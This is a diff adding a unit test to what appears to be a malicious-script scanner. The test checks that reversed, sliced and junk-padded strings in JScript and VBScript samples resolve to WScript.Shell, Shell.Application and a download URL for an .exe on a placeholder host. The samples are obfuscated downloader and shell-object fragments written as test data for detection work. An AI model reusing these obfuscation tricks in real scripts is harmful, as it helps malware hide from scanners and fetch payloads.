@@ -148,6 +148,41 @@ static void vbs_computed_createobject(void **st)
     eg_report_free(r);
 }
 
+/* reversed strings, junk removed with split/join and replace, slices: in JScript and VBScript */
+static void string_functions(void **st)
+{
+    (void)st;
+    const char *js =
+        "var a = \"llehS.tpircSW\".split(\"\").reverse().join(\"\");\n"
+        "var u = \"hXXtXXtXXp://dl.exXXample.test/p.exe\".split(\"XX\").join(\"\");\n"
+        "var c = \"zzMSXML2.XMLHTTP\".substr(2).replace(\"XMLHTTP\", \"ServerXMLHTTP\");\n"
+        "var o = new ActiveXObject(a);\nvar h = new ActiveXObject(c);\n"
+        "h.open(\"GET\", u, false);\n";
+    eg_report *r = scan_str(js, "a.js");
+    const char *ev = evidence_of(r, "SCRIPT.COMPUTED_PROGID");
+    assert_non_null(ev);
+    assert_non_null(strstr(ev, "\"WScript.Shell\""));
+    bool url = false;
+    for (size_t i = 0; i < eg_report_ioc_count(r); i++)
+        url |= !strcmp(eg_report_ioc(r, i)->value, "http://dl.example.test/p.exe");
+    assert_true(url); /* the junk-free URL was recovered */
+    eg_report_free(r);
+    const char *vbs = "a = StrReverse(\"tcejbOetaerC\")\r\n"
+                      "b = Replace(\"W#Scr#ipt.Sh#ell\", \"#\", \"\")\r\n"
+                      "c = Mid(\"xxShell.Applicationyy\", 3, 17)\r\n"
+                      "d = UCase(Left(\"execute me\", 7))\r\n"
+                      "Set o = CreateObject(c)\r\n"
+                      "Execute \"Set w = \" & a & \"(\"\"\" & b & \"\"\")\"\r\n";
+    r = scan_str(vbs, "b.vbs");
+    ev = evidence_of(r, "SCRIPT.COMPUTED_PROGID");
+    assert_non_null(ev);
+    assert_non_null(strstr(ev, "\"Shell.Application\""));
+    const eg_object *c = object_named(r, "[VBScript run by Execute]");
+    assert_non_null(c);
+    assert_int_equal(c->size, strlen("Set w = CreateObject(\"WScript.Shell\")"));
+    eg_report_free(r);
+}
+
 /* ---- scriptlets and XSL ---- */
 
 static const char sct[] =
@@ -401,6 +436,7 @@ int main(void)
         cmocka_unit_test(chm_header),
         cmocka_unit_test(hta_hex_element),
         cmocka_unit_test(hta_gzip_base64_element),
+        cmocka_unit_test(string_functions),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
